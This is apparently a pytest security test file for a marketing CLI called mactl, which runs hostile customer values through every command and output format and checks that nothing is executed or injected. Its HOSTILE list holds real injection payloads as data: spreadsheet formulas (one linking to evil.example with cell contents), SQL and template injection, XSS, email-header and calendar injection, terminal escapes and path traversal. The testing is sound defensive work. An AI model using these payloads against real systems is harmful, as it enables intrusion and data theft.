"""R6: hostile customers through every command and every format: nothing executed, injected or crashed (rule G4).

Commands are discovered: one that is added stands in ``ASKED`` with its words, or in ``NO_CUSTOMERS`` with a reason.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from typer.main import get_command

from mactl.cli import app, run
from tests.support.shop import Shop

MARCH = "2026-03-02T12:00+08:00"
FORMATS = ("", "table", "json", "csv", "md", "html", "xlsx", "ics")
HOSTILE = (
    "{{ 7 * 191 }}{% for x in ''.__class__.__mro__ %}{{ x }}{% endfor %}${7*191}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "＝1+1",
    "\t=1+1",
    "'; DROP TABLE customers; --",
    "\" OR 1=1 --",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "Mei\r\nBcc: victim@example.com\r\n\r\nhello",
    "a\nATTENDEE:mailto:victim@example.com\nEND:VEVENT",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "[bold red]x[/bold red][/nope][link=http://evil.example]y[/link]",
    "../../../../etc/passwd",
    "C:\\Windows\\system32\\con",
    "\u202e\u200b\u2066txt.exe\ufeff",
    "\x00\x01\x08\x7f\x9b31m",
    "\ud7ff\ue000\ufffe\uffff\U0010ffff",
    "e" + "\u0301" * 500,
    "王" * 5000,
    "| a | b |\n|---|---|\n`code` [x](javascript:alert(1))",
    "%s%n%d{0}{name}{0.__class__}",
    "NaN",
    "",
)  # fmt: skip
IDS = (
    "../../x",
    "=1+1",
    "<b>",
    "a;b",
    "{{ 7*191 }}",
    "会员 1",
    "-x",
    "con",
    "[/x]",
    "a'b",
    "1e400",
    "0x1f",
    ".",
    "%00",
)
ONE = IDS[0]
CAMPAIGN, FLOW, SEGMENT, TEST = "spring", "welcome", "everybody", "subjects"

# The words of every command that shows customers, or takes one.
ASKED: dict[str, list[list[str]]] = {
    "campaign list": [[]], "campaign show": [[CAMPAIGN], [CAMPAIGN, "--state", "sent"]],
    "campaign proof": [[CAMPAIGN, "--customer", ONE]], "campaign resend": [[CAMPAIGN, "--to", "failed", "--dry-run"]],
    "calendar": [[], ["--days", "3"]], "customers audit": [[]], "customers batches": [[]],
    "customers export": [["{out}.csv"], ["{out}.xlsx"], ["{out}.json"], ["{out}.jsonl"]],
    "customers find": [["x"], ["=1"], ["<b>"]], "customers list": [[], ["--tag", HOSTILE[0]]],
    "customers points": [[ONE]], "customers show": [[who] for who in IDS],
    "customers set": [[ONE, "city=" + HOSTILE[9]]], "customers tag": [[]],
    "events tail": [[], ["--customer", ONE]],
    "events track": [["login", "--customer", who, "note=" + HOSTILE[1]] for who in IDS[:3]],
    "explain": [["--customer", who, "--campaign", CAMPAIGN] for who in IDS] + [["--customer", ONE]],
    "flow explain": [["--customer", ONE, "--flow", FLOW]], "flow runs": [["--flow", FLOW]],
    "flow show": [[FLOW]], "flow list": [[]], "flow start": [["--flow", FLOW, "--customer", ONE]],
    "flow plan": [["--flow", FLOW]], "flow simulate": [["--flow", FLOW, "--from", "2026-02-01", "--to", "2026-02-03"]],
    "report": [[], ["--campaign", CAMPAIGN], ["--campaign", CAMPAIGN, "--who", "sent"], ["--kind", "costs"],
               ["--campaign", CAMPAIGN, "--by", "city"]],
    "segment add": [["list", ONE]], "segment remove": [["list", ONE]], "segment count": [[]],
    "segment export": [[SEGMENT, "{out}.csv"], [SEGMENT, "{out}.xlsx"]], "segment list": [[]],
    "segment overlap": [[SEGMENT, "list"]], "segment preview": [["--where", "not tag = nothing"]],
    "segment sample": [["--where", "not tag = nothing", "--size", "5"]],
    "segment score": [[]], "segment show": [[SEGMENT]], "segment test": [[SEGMENT, "--expected", "{out}.txt"]],
    "segment diff": [[SEGMENT, "--since", "2026-03-01"]],
    "send": [["--campaign", CAMPAIGN, "--dry-run"], ["--campaign", "fresh", "--dry-run"],
             ["--campaign", "fresh", "--test-to", "mei@example.com", "--as", ONE], ["--campaign", "fresh"]],
    "suppress add": [["h@example.com"]], "suppress check": [["h0@example.com"]], "suppress list": [[]],
    "suppress remove": [["h@example.com"]],
    "template preview": [["email", "--customer", ONE], ["sms", "--customer", ONE]], "tick": [[]], "doctor": [[]],
    "coupon list": [[]], "failed list": [[]], "failed retry": [["--dry-run"], []],
}  # fmt: skip
NO_CUSTOMERS = {
    "abtest analyze": "counts", "abtest approve": "a definition", "abtest list": "definitions",
    "abtest power": "a calculator", "abtest run": "counts", "abtest show": "counts", "abtest stop": "a definition",
    "backup": "copies the database", "campaign approve": "a definition", "campaign cancel": "counts",
    "campaign copy": "a definition", "campaign create": "a definition", "campaign edit": "a definition",
    "campaign pause": "counts", "campaign resume": "counts", "campaign schedule": "a definition",
    "coupon import": "codes", "coupon revoke": "codes", "customers add": "tests of intake",
    "customers import": "tests of intake, and the fixture", "customers undo": "counts", "daemon": "ticks",
    "events import": "tests of intake", "flow activate": "a definition", "flow approve": "a definition",
    "flow copy": "a definition",
    "flow pause": "counts", "flow replay": "by number", "flow resume": "counts", "flow stop": "counts",
    "flow tasks complete": "by number", "flow tasks take": "by number", "flow test": "stories",
    "flow validate": "a definition", "init": "files", "resume": "scopes", "schema": "schemas",
    "segment lookalike": "needs thousands of people", "segment refresh": "counts", "stop": "scopes",
    "suppress import": "tests of intake", "template check": "files", "template list": "files", "template new": "files",
    "flow tasks": "counts", "segment": "a group", "customers merge": "two people", "customers forget": "one person",
}  # fmt: skip


def discovered() -> list[str]:
    """Return the words of every command."""

    def walk(command: Any, path: tuple[str, ...]) -> Iterator[str]:
        if not hasattr(command, "list_commands"):
            yield " ".join(path)
            return
        context = command.context_class(command, info_name="mactl")
        for name in command.list_commands(context):
            yield from walk(command.get_command(context, name), (*path, name))

    return list(walk(get_command(app), ()))


def test_every_command_is_asked_or_has_a_reason() -> None:
    unknown = set(discovered()) - set(ASKED) - set(NO_CUSTOMERS)
    assert not unknown, "say in ASKED with which words they show customers, or in NO_CUSTOMERS why they show none"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Shop:
    """Return a shop of hostile customers who were sent a campaign and went through a flow."""
    folder = tmp_path_factory.mktemp("hostile")
    shop = Shop(folder / "shop", testers=[{"name": "Mei", "email": "mei@example.com"}])
    shop.campaign(CAMPAIGN, channels=["email", "sms", "push", "inapp"])
    shop.campaign("fresh", channels=["email", "sms"])
    people = [_person(n) for n in range(max(len(HOSTILE), len(IDS)))]
    (folder / "people.json").write_text(json.dumps(people), "utf-8")
    flow = {"name": FLOW, "trigger": {"event": "user_signup"}, "steps": [{"id": "hello", "send": {"email": "email"}}]}
    flow["steps"] = [{"id": "hello", "at": "0", "send": {"email": "email"}}]
    segments = [{"name": SEGMENT, "where": {"not": {"tag": "nothing"}}}, {"name": "list", "members": []}]
    for name, value in (("flows", [flow]), ("segments", segments)):
        (shop.folder / "data" / f"{name}.json").write_text(json.dumps(value), "utf-8")
    for words in (["customers", "import", str(folder / "people.json"), "--yes"], ["flow", "activate", "--flow", FLOW]):
        assert run(["-C", str(shop.folder), *words], {"MACTL_NOW": MARCH}) in {0, 3}
    for n, who in enumerate(IDS):
        event = ["events", "track", "user_signup", "--customer", who, f"note={HOSTILE[n]}"]
        assert run(["-C", str(shop.folder), *event], {"MACTL_NOW": MARCH}) == 0
    assert run(["-C", str(shop.folder), "tick"], {"MACTL_NOW": MARCH}) in {0, 3}
    assert run(["-C", str(shop.folder), "send", "--campaign", CAMPAIGN], {"MACTL_NOW": MARCH}) in {0, 3}
    return shop


def _person(n: int) -> dict[str, object]:
    bad = HOSTILE[n % len(HOSTILE)]
    return {
        "id": IDS[n] if n < len(IDS) else f"h{n}", "name": bad, "city": bad, "company": bad, "owner": bad,
        "member_level": bad, "email": f"h{n}@example.com", "phone": f"+86134900{n:05}", "gender": bad[:20],
        "push_token": f"{n:064x}", "tags": [bad or "none", "t"], "attributes": {bad or "x": bad, "note": bad},
        "consents": {"email": True, "sms": {"status": "granted", "source": bad, "proof": bad}},
    }  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("path", sorted(ASKED))
def test_nothing_is_executed_injected_or_crashed(
    hostile: Shop, path: str, capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for form in FORMATS:
        for number, given in enumerate(ASKED[path]):
            words = [word.replace("{out}", str(tmp_path / f"out{number}{form}")) for word in given]
            (tmp_path / f"out{number}{form}.txt").write_text("\n".join(IDS), "utf-8")
            _ask(hostile, path, words, form, capfd, tmp_path)
    with hostile.database() as database:
        assert database.number("SELECT COUNT(*) FROM customers") >= len(HOSTILE)
    assert {each.name for each in hostile.folder.parent.iterdir()} == {"shop", "people.json"}


def _ask(shop: Shop, path: str, words: list[str], form: str, capfd: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    asked = ["--format", form] if form else []
    out = tmp_path / "answer.xlsx"
    if form == "xlsx":
        asked += ["--out", str(out)]
    code = run(["-C", str(shop.folder), *path.split(), *words, *asked], {"MACTL_NOW": MARCH, "MACTL_USER": "mei"})
    said = capfd.readouterr()
    with about(f"{path} {words} --format {form}: exit {code}\n{said.err[-400:]}"):
        assert code in {0, 1, 2, 3}
        assert "Traceback" not in said.err
        assert "unexpected" not in said.err.lower()
        assert "1337" not in said.out + said.err, "a template in a value was run"
        if not said.err.startswith("error"):
            CHECKS.get(form, plain)(said.out)
        plain(said.err)
        for file in tmp_path.glob("*.csv"):
            formulas(file.read_text("utf-8-sig"))
        for file in tmp_path.glob("*.xlsx") if path not in _OWN_FILE else ():
            workbook(file)


@contextmanager
def about(what: str) -> Iterator[None]:
    """Say what was asked where something is wrong with the answer."""
    try:
        yield
    except AssertionError as fault:
        raise AssertionError(f"{what}\n{fault}") from fault


_OWN_FILE = {"template preview"}  # what they write to --out is no report
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]")


def plain(text: str) -> None:
    """No control character reaches a terminal, a log or a page."""
    found = _CONTROL.search(text)
    assert found is None, f"a control character {found!r} in {text[max(0, found.start() - 40) :][:80]!r}"


def document(text: str) -> None:
    """JSON is JSON, and nothing but it."""
    if text:
        json.loads(text)


def formulas(text: str) -> None:
    """No cell of a CSV file is a formula."""
    csv.field_size_limit(10_000_000)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            first = cell.lstrip(" \n")[:1]
            number = re.fullmatch(r"[-+][\d.,]+%?", cell.strip())
            assert first not in tuple("=+-@\t\r＝＋－＠") or not first or number, cell[:80]


class Page(HTMLParser):
    """What a page does: the scripts in it, and attributes that run something."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.script = tag == "script"
        self.wrong += [f"{tag} {name}" for name, _value in attrs if name.startswith("on")]
        self.wrong += [f"{tag} {value}" for _name, value in attrs if (value or "").lower().startswith("javascript:")]
        self.wrong += ["svg onload"] if tag == "img" and dict(attrs).get("src") == "x" else []

    def handle_data(self, data: str) -> None:
        self.wrong += ["script"] if self.script and "alert(1)" in data else []
        self.script = False


def page(text: str) -> None:
    """No value becomes markup."""
    plain(text)
    read = Page()
    read.feed(text)
    assert not read.wrong, read.wrong[:3]


def workbook(path: Path) -> None:
    """No cell of a workbook is a formula, and it opens."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    assert not [cell.coordinate for sheet in book for row in sheet.rows for cell in row if cell.data_type == "f"]
    book.close()


def calendar(text: str) -> None:
    """No line of a calendar is one that a value wrote."""
    plain(text)
    assert not re.search(r"^ATTENDEE", text, re.MULTILINE)
    assert text.count("BEGIN:VEVENT") == text.count("END:VEVENT")


def nothing(_text: str) -> None:
    """A workbook goes into a file, which is looked at there."""


CHECKS = {"json": document, "csv": formulas, "html": page, "xlsx": nothing, "ics": calendar}


def test_what_went_out_is_what_was_meant(hostile: Shop) -> None:
    """Names that hold headers, markup and template code are text in what was sent."""
    from email import policy
    from email.parser import BytesParser

    letters = [BytesParser(policy=policy.default).parsebytes(raw) for raw in hostile.maildir()]
    assert letters
    for letter in letters:
        assert letter["Bcc"] is None
        assert len(letter.get_all("To")) == 1
        assert "1337" not in str(letter["Subject"])
        part = letter.get_body(("html",))
        assert part is not None
        page(part.get_content())
